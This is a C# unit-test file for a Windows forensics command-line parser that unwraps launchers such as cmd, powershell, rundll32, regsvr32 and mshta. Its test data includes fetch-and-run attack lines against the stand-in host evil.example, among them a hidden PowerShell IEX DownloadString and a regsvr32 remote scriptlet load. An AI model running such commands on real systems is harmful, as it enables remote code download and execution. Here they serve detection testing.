using System.Collections.Immutable;
using System.Text;
using CsrssForensics.Windows.CommandLines;

namespace CsrssForensics.Windows.Tests.CommandLines;

public sealed class CommandLineTests
{
    public static TheoryData<string, string[]> TokenizeCases => new()
    {
        { @"a.exe b c", ["a.exe", "b", "c"] },
        { @"""C:\Program Files\a.exe"" -x", [@"C:\Program Files\a.exe", "-x"] },
        { @"""C:\dir\"" next", [@"C:\dir\", "next"] },
        { @"a.exe ""b c"" d", ["a.exe", "b c", "d"] },
        { @"a.exe a\\\""b", ["a.exe", @"a\""b"] },
        { @"a.exe a\\\\""b c"" d", ["a.exe", @"a\\b c", "d"] },
        { @"a.exe a\b\c", ["a.exe", @"a\b\c"] },
        { @"a.exe ""a""""b""", ["a.exe", @"a""b"] },
        { "  \ta.exe\t x  ", ["a.exe", "x"] },
        { @"a.exe """"", ["a.exe", ""] },
        { @"""unclosed name", ["unclosed name"] },
        { @"a.exe ""unclosed arg", ["a.exe", "unclosed arg"] },
    };

    [Theory]
    [MemberData(nameof(TokenizeCases))]
    public void Tokenize_follows_CommandLineToArgvW(string commandLine, string[] expected)
    {
        Assert.Equal<string>(expected, CommandLine.Tokenize(commandLine));
    }

    [Theory]
    [InlineData(null)]
    [InlineData("")]
    [InlineData("   ")]
    public void Tokenize_of_nothing_is_empty(string? commandLine)
    {
        Assert.Empty(CommandLine.Tokenize(commandLine));
    }

    [Theory]
    [InlineData(@"""C:\Program Files\x y\a.exe"" -arg", @"C:\Program Files\x y\a.exe")]
    [InlineData(@"C:\Program Files\x y\a.exe -arg", @"C:\Program Files\x y\a.exe")]
    [InlineData(@"C:\Program Files\x y\a.exe", @"C:\Program Files\x y\a.exe")]
    [InlineData(@"C:\a.exe C:\b.exe", @"C:\a.exe")]
    [InlineData(@"C:\Windows\system32\csrss.exe ObjectDirectory=\Windows SharedSection=1024,20480,768", @"C:\Windows\system32\csrss.exe")]
    [InlineData(@"C:\x\run.bat arg", @"C:\x\run.bat")]
    [InlineData(@"C:\x\a.dll,Entry", @"C:\x\a.dll")]
    [InlineData(@"C:\x.exe.config\a.exe", @"C:\x.exe.config\a.exe")]
    [InlineData(@"notepad something", "notepad")]
    [InlineData(@"  C:\a.EXE", @"C:\a.EXE")]
    [InlineData(@"""unclosed\a.exe -x", @"unclosed\a.exe -x")]
    // Inside quotes a trailing space is part of the file name (started through \\?\, which skips Win32 trimming).
    [InlineData(@"""\\?\C:\x\csrss.exe "" -a", @"\\?\C:\x\csrss.exe ")]
    [InlineData(@"""  C:\x\csrss.exe """, @"C:\x\csrss.exe ")]
    [InlineData(@""" """, null)]
    [InlineData(null, null)]
    [InlineData("  ", null)]
    public void ExtractExecutable_finds_the_program(string? commandLine, string? expected)
    {
        Assert.Equal(expected, CommandLine.ExtractExecutable(commandLine));
    }

    [Fact]
    public void ExtractExecutable_with_a_file_list_follows_CreateProcess_order()
    {
        var existing = new HashSet<string>(StringComparer.OrdinalIgnoreCase) { @"C:\Program Files\My App\tool.exe" };
        Assert.Equal(@"C:\Program Files\My App\tool.exe", CommandLine.ExtractExecutable(@"C:\Program Files\My App\tool -x", existing.Contains));

        existing.Add(@"C:\Program.exe");
        Assert.Equal(@"C:\Program.exe", CommandLine.ExtractExecutable(@"C:\Program Files\My App\tool -x", existing.Contains));
    }

    [Theory]
    [InlineData(@"""C:\Users\a\AppData\Roaming\csrss.exe"" -q", null, @"C:\Users\a\AppData\Roaming\csrss.exe", @"C:\Users\a\AppData\Roaming\csrss.exe", "direct")]
    [InlineData(@"cmd.exe /c C:\x\a.exe -y", null, @"cmd.exe", @"C:\x\a.exe", "cmd")]
    [InlineData(@"C:\Windows\System32\cmd.exe /q /d /k ""C:\x y\a.exe"" -y", null, @"C:\Windows\System32\cmd.exe", @"C:\x y\a.exe", "cmd")]
    [InlineData(@"cmd /c """"C:\x y\a.exe"" -arg""", null, "cmd", @"C:\x y\a.exe", "cmd")]
    [InlineData(@"cmd /c start """" C:\x\a.exe", null, "cmd", @"C:\x\a.exe", "cmd>start")]
    [InlineData(@"cmd /c start ""title"" /min /d C:\x C:\x\a.exe", null, "cmd", @"C:\x\a.exe", "cmd>start")]
    [InlineData(@"cmd.exe /c C:\x\a.exe & del C:\x\a.exe", null, "cmd.exe", @"C:\x\a.exe", "cmd")]
    [InlineData(@"powershell.exe -NoProfile -ExecutionPolicy Bypass -File ""C:\x y\a.ps1"" -z", null, "powershell.exe", @"C:\x y\a.ps1", "powershell")]
    [InlineData(@"powershell -nop -w hidden -f C:\x\a.ps1", null, "powershell", @"C:\x\a.ps1", "powershell")]
    [InlineData(@"powershell.exe -Command ""& 'C:\x\a.exe' -q""", null, "powershell.exe", @"C:\x\a.exe", "powershell")]
    [InlineData(@"powershell.exe -c Start-Process 'C:\ProgramData\a.exe'", null, "powershell.exe", @"C:\ProgramData\a.exe", "powershell")]
    [InlineData(@"powershell.exe & 'C:\x\b.exe'", null, "powershell.exe", @"C:\x\b.exe", "powershell")]
    [InlineData(@"pwsh C:\x\a.ps1", null, "pwsh", @"C:\x\a.ps1", "pwsh")]
    [InlineData(@"rundll32.exe C:\Users\a\AppData\Local\x.dll,DllMain", null, "rundll32.exe", @"C:\Users\a\AppData\Local\x.dll", "rundll32")]
    [InlineData(@"rundll32 ""C:\Program Files\x\a.dll"",Start", null, "rundll32", @"C:\Program Files\x\a.dll", "rundll32")]
    [InlineData(@"rundll32.exe C:\Program Files\x\a.dll,Start", null, "rundll32.exe", @"C:\Program Files\x\a.dll", "rundll32")]
    [InlineData(@"rundll32.exe shell32.dll,ShellExec_RunDLL C:\x\a.exe", null, "rundll32.exe", @"C:\x\a.exe", "rundll32")]
    [InlineData(@"regsvr32 /s /n C:\x\a.dll", null, "regsvr32", @"C:\x\a.dll", "regsvr32")]
    [InlineData(@"regsvr32 /s /n /u /i:http://evil.example/a.sct scrobj.dll", null, "regsvr32", "http://evil.example/a.sct", "regsvr32")]
    [InlineData(@"wscript.exe //B //E:vbscript ""C:\x\a.vbs"" arg", null, "wscript.exe", @"C:\x\a.vbs", "wscript")]
    [InlineData(@"cscript C:\x\a.js", null, "cscript", @"C:\x\a.js", "cscript")]
    [InlineData(@"mshta.exe C:\x\a.hta", null, "mshta.exe", @"C:\x\a.hta", "mshta")]
    [InlineData(@"mshta https://evil.example/a.hta", null, "mshta", "https://evil.example/a.hta", "mshta")]
    [InlineData(@"conhost.exe --headless C:\x\a.exe", null, "conhost.exe", @"C:\x\a.exe", "conhost")]
    [InlineData(@"conhost --headless --width 80 0xffffffff cmd /c C:\x\a.exe", null, "conhost", @"C:\x\a.exe", "conhost>cmd")]
    [InlineData(@"%SystemRoot%\System32\cmd.exe", "/c %APPDATA%\\a.exe", @"C:\Windows\System32\cmd.exe", @"%APPDATA%\a.exe", "cmd")]
    [InlineData(@"C:\Program Files\x y\a.exe", "-arg", @"C:\Program Files\x y\a.exe", @"C:\Program Files\x y\a.exe", "direct")]
    [InlineData(@"""C:\Program Files\x y\a.exe""", "", @"C:\Program Files\x y\a.exe", @"C:\Program Files\x y\a.exe", "direct")]
    [InlineData(@"\??\C:\Windows\system32\csrss.exe ObjectDirectory=\Windows", null, @"C:\Windows\system32\csrss.exe", @"C:\Windows\system32\csrss.exe", "direct")]
    [InlineData("%ComSpec%", @"/c start """" ""%APPDATA%\Microsoft\Crypto\csrss.exe"" -s", @"C:\Windows\System32\cmd.exe", @"%APPDATA%\Microsoft\Crypto\csrss.exe", "cmd>start")]
    [InlineData(@"C:\Windows\system32\userinit.exe,", null, @"C:\Windows\system32\userinit.exe", @"C:\Windows\system32\userinit.exe", "direct")]
    [InlineData(@"System32\drivers\tcpip.sys", null, @"C:\Windows\System32\drivers\tcpip.sys", @"C:\Windows\System32\drivers\tcpip.sys", "direct")]
    [InlineData(@"powershell -w hidden -c ""IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')""", null, "powershell", "http://evil.example/a.ps1", "powershell")]
    [InlineData(@"cmd /c ""C:\x y\a.exe""", null, "cmd", @"C:\x y\a.exe", "cmd")]
    public void ResolveTarget_unwraps_launchers(string command, string? arguments, string executable, string target, string via)
    {
        var resolved = CommandLine.ResolveTarget(command, arguments);

        Assert.Equal(executable, resolved.Executable);
        Assert.Equal(target, resolved.Target);
        Assert.Equal(via, resolved.Via);
    }

    [Fact]
    public void ResolveTarget_decodes_an_encoded_PowerShell_command()
    {
        var script = @"Start-Process -FilePath 'C:\Users\Public\csrss.exe' -WindowStyle Hidden";
        var encoded = Convert.ToBase64String(Encoding.Unicode.GetBytes(script));

        var resolved = CommandLine.ResolveTarget("powershell.exe -nop -w hidden -enc " + encoded, null);

        Assert.Equal(@"C:\Users\Public\csrss.exe", resolved.Target);
        Assert.Equal("powershell", resolved.Via);
        Assert.Contains(resolved.Notes, note => note.Contains(script, StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("-e")]
    [InlineData("-EncodedCommand")]
    [InlineData("-ec")]
    [InlineData("/enc")]
    public void ResolveTarget_accepts_every_spelling_of_EncodedCommand(string option)
    {
        var encoded = Convert.ToBase64String(Encoding.Unicode.GetBytes(@"& C:\x\a.exe"));

        var resolved = CommandLine.ResolveTarget($"powershell {option} {encoded}", null);

        Assert.Equal(@"C:\x\a.exe", resolved.Target);
    }

    [Fact]
    public void ResolveTarget_notes_an_encoded_command_that_is_not_base64()
    {
        var resolved = CommandLine.ResolveTarget("powershell -enc !!!notbase64!!!", null);

        Assert.Null(resolved.Target);
        Assert.Contains(resolved.Notes, note => note.Contains("not valid base64", StringComparison.Ordinal));
    }

    [Fact]
    public void ResolveTarget_notes_the_rundll32_entry_point_and_cmd_chains()
    {
        var rundll = CommandLine.ResolveTarget(@"rundll32.exe C:\x\a.dll,Install", null);
        Assert.Contains("rundll32 entry point: Install", rundll.Notes);

        var chain = CommandLine.ResolveTarget(@"cmd /c C:\x\a.exe && C:\x\b.exe", null);
        Assert.Equal(@"C:\x\a.exe", chain.Target);
        Assert.Contains(chain.Notes, note => note.StartsWith("cmd runs more than one command", StringComparison.Ordinal));
    }

    [Fact]
    public void ResolveTarget_stops_on_a_deep_wrapper_chain()
    {
        var command = string.Concat(Enumerable.Repeat("cmd /c ", 50)) + @"C:\x\a.exe";

        var resolved = CommandLine.ResolveTarget(command, null);

        Assert.Equal(8, resolved.Via.Split('>').Length);
        Assert.Contains(resolved.Notes, note => note.Contains("deeper than", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData(null, null)]
    [InlineData("", "")]
    [InlineData("cmd", null)]
    [InlineData("cmd /c", null)]
    [InlineData("powershell -enc", null)]
    [InlineData("rundll32", null)]
    [InlineData("regsvr32 /s", null)]
    [InlineData("start \"", null)]
    public void ResolveTarget_copes_with_truncated_input(string? command, string? arguments)
    {
        var resolved = CommandLine.ResolveTarget(command, arguments);
        Assert.NotNull(resolved.Via);
    }

    [Fact]
    public void Hostile_random_command_lines_never_throw()
    {
        var random = new Random(42);
        string[] pieces =
        [
            "cmd", "/c", "/k", "powershell", "pwsh", "-enc", "-e", "-f", "-c", "rundll32", "regsvr32", "/i:", "http://",
            "mshta", "wscript", "//b", "start", "conhost", "--headless", "\"", "'", "\\", "\\\\", ",", "&", "|", "^", "%",
            "C:\\x.exe", "a.dll", "\\??\\", " ", "\t", "AAAA", "=", "shell32.dll,ShellExec_RunDLL", "\0", "\u202e",
        ];

        for (var n = 0; n < 5000; n++)
        {
            var builder = new StringBuilder();
            var count = random.Next(0, 14);
            for (var i = 0; i < count; i++)
            {
                builder.Append(pieces[random.Next(pieces.Length)]);
                if (random.Next(2) == 0)
                {
                    builder.Append(' ');
                }
            }

            var text = builder.ToString();
            _ = CommandLine.Tokenize(text);
            _ = CommandLine.ExtractExecutable(text);
            _ = CommandLine.ExtractExecutable(text, candidate => candidate.Length % 3 == 0);
            var resolved = CommandLine.ResolveTarget(text, random.Next(3) == 0 ? text : null);
            Assert.False(resolved.Notes.IsDefault);
        }
    }

    [Fact]
    public void Notes_are_immutable_and_capped()
    {
        var huge = "cmd /c " + new string('a', 10_000) + " & b";
        ImmutableArray<string> notes = CommandLine.ResolveTarget(huge, null).Notes;
        Assert.All(notes, note => Assert.True(note.Length <= 2001));
    }
}
